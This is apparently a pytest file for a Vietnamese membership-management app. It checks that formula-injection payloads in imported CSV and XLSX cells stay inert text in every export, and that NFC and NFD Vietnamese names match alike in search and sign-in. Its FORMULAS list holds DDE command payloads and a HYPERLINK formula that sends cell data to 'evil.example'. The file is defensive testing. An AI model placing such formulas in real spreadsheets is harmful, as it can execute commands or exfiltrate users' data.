"""Formula injection through imported cells (neutralised on every export) and NFC vs NFD Vietnamese
(the same text typed on two keyboards finds and collides the same way)."""

import csv
import io
import unicodedata
from datetime import UTC, datetime

from openpyxl import load_workbook
from sqlalchemy import select

from server.records.members import Member
from tests.server.meetings.factories import make_meeting, mark
from tests.server.members.factories import HEADERS, csv_bytes, post_import, xlsx_bytes

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _row(name: str, card: str, cell_code: str) -> list[str | None]:
    values = {"STT": "1", "Họ và tên": name, "Ngày sinh": "12/03/1990", "Số thẻ đảng viên": card,
              "Ngày vào Đảng": "19/05/2015", "Ngày chính thức": "19/05/2016", "Loại đảng viên": "Chính thức",
              "Mã chi bộ": cell_code, "Chức vụ": "=1+1", "Điện thoại": None}
    return [values[h] for h in HEADERS]


def test_formulas_in_imported_cells_stay_text_in_every_export(client, db, world, login):
    rows = [_row(f, f"90000000{i}", world.cell.code) for i, f in enumerate(FORMULAS)]
    half = len(rows) // 2
    staff = login(world.staff)
    for content, name in ((csv_bytes(rows[:half]), "a.csv"), (xlsx_bytes(rows[half:]), "a.xlsx")):
        resp = post_import(client, staff, content, filename=name)
        assert resp.status_code == 200 and resp.json()["created"] > 0, resp.text
    db.rollback()
    stored = {m.full_name for m in db.execute(select(Member).where(Member.card_number.like("90000000%")))
              .scalars()}
    assert stored == set(FORMULAS)  # kept as typed: the defence is on the way out
    meeting = make_meeting(db, world.cell, starts_at=datetime(2025, 6, 5, 12, tzinfo=UTC), status="closed")
    for member in db.execute(select(Member).where(Member.card_number.like("90000000%"))).scalars():
        mark(db, meeting, member, "present")
    db.commit()
    sec = login(world.secretary)
    url = f"/api/v1/meetings/{meeting.id}/attendance/export"
    sheet = load_workbook(io.BytesIO(client.get(url, params={"format": "xlsx"}, headers=sec).content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value in FORMULAS]
    assert {c.value for c in cells} == set(FORMULAS)
    assert {c.data_type for c in cells} == {"s"}  # shared strings: Excel shows them, never runs them
    text = client.get(url, params={"format": "csv"}, headers=sec).content.decode("utf-8-sig")
    names = {r[1] for r in csv.reader(io.StringIO(text)) if len(r) > 1}
    assert {"'" + f for f in FORMULAS} <= names and not names & set(FORMULAS)
    stats = client.get(f"/api/v1/stats/cells/{world.cell.id}/attendance/export", params={"year": 2025},
                       headers=sec)
    assert stats.status_code == 200, stats.text
    book = load_workbook(io.BytesIO(stats.content))
    found = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value in FORMULAS]
    assert found and {c.data_type for c in found} == {"s"}


def _nfd(text: str) -> str:
    return unicodedata.normalize("NFD", text)


def test_nfd_and_nfc_names_are_the_same_name(client, db, world, login):
    staff = login(world.staff)
    name = "Nguyễn Thị Ánh Tuyết"
    assert _nfd(name) != name
    resp = client.post("/api/v1/members", headers=staff,
                       json={"full_name": _nfd(name), "org_id": world.cell.id})
    assert resp.status_code == 201, resp.text
    assert resp.json()["full_name"] == name  # stored NFC
    for query in (name, _nfd(name), "Ánh Tuyết", _nfd("ánh tuyết"), "anh tuyet"):
        found = client.get("/api/v1/members", params={"q": query}, headers=staff).json()["items"]
        assert [m["full_name"] for m in found] == [name], query
    # organisations: created in one form, found in the other
    org = client.post("/api/v1/orgs", headers=staff, json={
        "name": _nfd("Chi bộ Phường Đông Hưng Thuận"), "kind": "cell", "code": "cb-dht",
        "parent_id": world.grassroots.id})
    assert org.status_code == 201, org.text
    assert org.json()["name"] == "Chi bộ Phường Đông Hưng Thuận"
    for query in ("Đông Hưng", _nfd("Đông Hưng")):
        found = client.get("/api/v1/orgs", params={"q": query}, headers=staff).json()["items"]
        assert [o["id"] for o in found] == [org.json()["id"]], query
    # documents: a title typed in NFD is found by an NFC query and the other way round
    doc = client.post("/api/v1/documents", headers=staff, json={
        "title": _nfd("Nghị quyết về công tác xây dựng Đảng"), "doc_type": "resolution",
        "category": "documents", "audience_org_ids": [world.cell.id]})
    assert doc.status_code == 201, doc.text
    for query in ("xây dựng Đảng", _nfd("xây dựng Đảng"), "xay dung dang"):
        found = client.get("/api/v1/documents", params={"q": query}, headers=staff).json()["items"]
        assert [d["id"] for d in found] == [doc.json()["id"]], query


def test_nfd_and_nfc_usernames_and_sign_in_collide_the_same_way(client, db, world, login):
    staff = login(world.staff)
    target = world.member2.member.id
    # An account name is plain ASCII: a Vietnamese name in either form is refused alike, not stored twice.
    for username in ("nguyễn.a", _nfd("nguyễn.a")):
        resp = client.post(f"/api/v1/members/{target}/account", headers=staff,
                           json={"username": username, "password": "mat-khau-dai-1"})
        assert resp.status_code == 422 and resp.json()["code"] == "validation_error", resp.text
    # Signing in with the card number or the username typed on any keyboard reaches the same account.
    person = world.member
    for typed in (person.username, person.username.upper(), _nfd(person.username)):
        resp = client.post("/api/v1/auth/login", json={"username": typed, "password": person.password})
        assert resp.status_code == 200, (typed, resp.text)
